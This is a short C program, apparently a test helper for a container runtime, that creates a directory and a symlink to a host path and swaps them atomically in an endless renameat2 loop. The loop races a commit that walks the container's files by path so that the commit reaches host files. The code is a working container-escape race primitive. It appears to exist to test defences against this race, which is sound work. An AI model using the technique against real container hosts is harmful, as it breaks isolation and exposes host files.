/* The attack on a commit that walks the container's files by path: a
 * directory and a symlink to a host directory trade places
 * (renameat2(2) RENAME_EXCHANGE, atomic), over and over, so that a walker
 * that looked at "a directory" then opens its path again lands on the host.
 * Usage: swapdir DIR LINK TARGET. Makes DIR holding one file, LINK -> TARGET
 * (a path that means something on the host only), prints "swapping", and
 * exchanges them until killed. Built static: it runs in the busybox image. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char file[4096];
	int fd;

	if (argc != 4) {
		fprintf(stderr, "usage: swapdir DIR LINK TARGET\n");
		return 2;
	}
	snprintf(file, sizeof(file), "%s/container-file", argv[1]);
	if (mkdir(argv[1], 0755) < 0 || (fd = open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0644)) < 0 ||
	    close(fd) < 0 || symlink(argv[3], argv[2]) < 0) {
		perror("swapdir: set up");
		return 1;
	}
	printf("swapping\n");
	fflush(stdout);
	for (;;)
		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
			perror("swapdir: renameat2");
			return 1;
		}
}
